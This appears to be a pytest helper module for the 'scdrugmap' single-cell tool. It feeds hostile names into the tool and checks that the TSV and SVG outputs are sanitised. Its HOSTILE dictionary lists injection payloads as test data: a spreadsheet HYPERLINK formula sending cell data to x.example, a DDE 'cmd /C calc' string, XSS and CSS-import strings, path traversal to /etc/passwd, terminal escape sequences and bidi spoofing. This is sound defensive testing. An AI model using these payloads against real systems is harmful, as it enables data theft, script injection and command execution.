"""Names that do harm, cells that have no others, and what must hold of whatever is made of them."""

from __future__ import annotations

import contextlib
import gzip
import io
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from scdrugmap.plain import UNSEEN

HOSTILE = {
    "tab": "a\tb",
    "line end": "a\nError: all is lost\n",
    "carriage return": "a\r\nb\rc",
    "formula": '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "wide formula": "\uff1d1+1",
    "quoted formula": "'=1+1",
    "script": "<script>alert('name')</script>",
    "handler": "\"><img src=x onerror=alert('name')>",
    "attribute": "\" onmouseover=\"alert('name')\" x='",
    "link": "<a href=\"javascript:alert('name')\">x</a>[x](javascript:alert(1))",
    "style": "</style><style>@import url(http://x.example/a.css)</style>",
    "template": "{{ 7 * 7 }}{% raw %}%{customdata[0]}${x}",
    "entity": "&lt;b&gt;&#60;script&#62;",
    "comment": "--><!--]]>",
    "mathematics": "$\\frac{1}{0}$ $x^{$",
    "path": "../../../../evil/passwd",
    "absolute path": "/etc/passwd",
    "path of Windows": "..\\..\\evil C:\\x",
    "backslash": "a\\tb\\n\\",
    "colours": "\x1b[2J\x1b[1;31mred",
    "title of the terminal": "\x1b]0;title\x07",
    "8-bit sequence": "\x9b31m\x9d0;x\x9c",
    "turned round": "\u202egnp.exe\u202c",
    "isolate": "\u2067x\u2069",
    "invisible": "T\u200bP\u00ad53\ufeff",
    "line separator": "a\u2028b\u2029c\x85d\x0be",
    "quotes": "'\"`\u201c",
    "markdown": "# x\n\n**b** | c |\n<b>d</b>",
    "yaml": "x: {a: 1} # !!python/object",
    "long": "x" * 300,
}
ALL = list(HOSTILE.values())
STEERING = re.compile(f"[{UNSEEN}\t]")
WORDS = ("=<b>S</b>\x1b[1m", "@R\u202e</td>")
DATASET = "<img src=x onerror=alert('dataset')>\u202e\x1b[31m../x"
CLAIMS = ("\"'><script>alert('tissue')</script>", "=1+1", "\x1b[31mdrug")


def command(*arguments: object) -> tuple[int, str, str]:
    """Run the command line in this process."""
    from scdrugmap.cli import main

    out, err = io.StringIO(), io.StringIO()
    with (
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        pytest.raises(SystemExit) as stop,
    ):
        main([str(argument) for argument in arguments])
    return int(stop.value.code or 0), out.getvalue(), err.getvalue()


def hostile_cells(path: Path) -> None:
    """Write cells of which nothing has a harmless name."""
    from scdrugmap.testing import synthetic_adata

    adata = synthetic_adata(160, 600, n_patients=8)
    adata.obs_names = [f"{ALL[i % len(ALL)]}{i}" for i in range(160)]
    genes = list(adata.var_names)
    genes[-len(ALL) :] = ALL
    adata.var_names = genes
    patients = sorted(set(adata.obs["patient"]))
    chosen = [ALL[i] for i in (0, 3, 9, 10, 16, 18, 22, 25)]
    named = dict(zip(patients, chosen, strict=True))
    adata.obs["patient"] = np.array([named[p] for p in adata.obs["patient"]], object)
    words = {"sensitive": WORDS[0], "resistant": WORDS[1]}
    adata.obs["response"] = np.array([words[r] for r in adata.obs["response"]], object)
    adata.write_h5ad(path)


def assert_harmless(text: str) -> None:
    """Nothing in text for a terminal but visible characters and line ends."""
    assert not STEERING.search(text), STEERING.search(text)


def assert_sound_table(raw: bytes) -> list[list[str]]:
    """Every line has the fields of the first; none begins a formula or steers a terminal."""
    lines = raw.decode("utf-8").split("\n")
    assert lines.pop() == ""
    rows = [line.split("\t") for line in lines]
    assert {len(row) for row in rows} == {len(rows[0])}
    for row in rows:
        for value in row:
            assert not re.search(f"[{UNSEEN}]", value)
            number = re.fullmatch(r"-?(\d[\d.]*(e[-+]\d+)?|inf|nan)", value)
            assert number or value[:1] not in tuple("=+-@\uff1d"), value
    return rows


def raw_tables(folder: Path) -> dict[str, bytes]:
    tables = {path.name: path.read_bytes() for path in folder.rglob("*.tsv*")}
    return {
        name: gzip.decompress(raw) if name.endswith(".gz") else raw for name, raw in tables.items()
    }


class Elements(HTMLParser):
    """All elements of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_sound_svg(raw: bytes) -> None:
    """It can be parsed, and holds neither scripts nor handlers nor links that lead out."""
    for element in ET.fromstring(raw).iter():
        tag = element.tag.rpartition("}")[2]
        assert tag not in ("script", "foreignObject", "a", "iframe")
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert not name.endswith("href") or value.startswith(("#", "data:image/png"))
